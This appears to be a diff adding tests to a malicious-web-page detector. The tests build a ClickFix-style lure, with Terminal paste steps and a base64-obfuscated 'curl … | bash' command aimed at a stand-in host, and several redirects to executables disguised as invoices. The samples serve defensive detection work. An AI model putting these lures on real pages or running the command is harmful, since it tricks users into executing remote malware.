@@ -423,6 +423,13 @@ suite('a page that asks for a password', () => {
   })
 })
 
+test('a page that asks to paste a coded command needs no pretext', () => {
+  const steps = '<ol><li>Press <b>Command + Space</b>, type Terminal.</li><li>Copy this line and paste it:</li></ol>'
+  const coded = `bash -c "$(echo '${btoa('curl -fsSL http://files.example/u.sh | bash')}' | base64 -D)"`
+  has(html('', `${PARAGRAPH}${steps}<pre>${coded}</pre>`), 'Html.ClickFix')
+  harmless(html('', `${PARAGRAPH}${steps}<pre>curl -fsSL https://get.example.com | sh</pre>`))
+})
+
 suite('a page that leads away', () => {
   test('by a hidden address', () =>
     has(html(`location.href=atob("${btoa('https://example.com/x')}")`), 'Html.Redirect'))
@@ -433,6 +440,28 @@ suite('a page that leads away', () => {
   })
   test('at once', () =>
     has(Buffer.from('<html><meta http-equiv=refresh content="0;url=https://example.com/x"></html>'), 'Html.Redirect'))
+  test('at once, to a script or a program that is called like a document', () => {
+    const refresh = (target: string, body = '') =>
+      Buffer.from(`<html><meta http-equiv=refresh content="0;url=${target}"><body>${body}</body></html>`)
+    const trap = 'https://example.com/a/Invoice.vbs?d=1'
+    for (const target of [
+      trap,
+      'https://example.com/Invoice.pdf.exe',
+      '//example.com/a.hta',
+      'https://example.com/a.lnk',
+    ])
+      has(refresh(target), 'Html.ProgramRedirect')
+    has(html(`location.replace("${trap}")`, ''), 'Html.ProgramRedirect')
+    has(html('', `<iframe src="${trap}"></iframe>`), 'Html.ProgramRedirect')
+    has(svg(`<script>location="${trap}"</script>`), 'Html.ProgramRedirect')
+    for (const target of [
+      'https://example.com/setup.exe',
+      'https://example.com/install.ps1',
+      'https://example.com/a.js',
+    ])
+      has(refresh(target), 'Html.Redirect')
+    harmless(refresh(trap, PARAGRAPH))
+  })
   test('but says so', () =>
     harmless(
       Buffer.from(
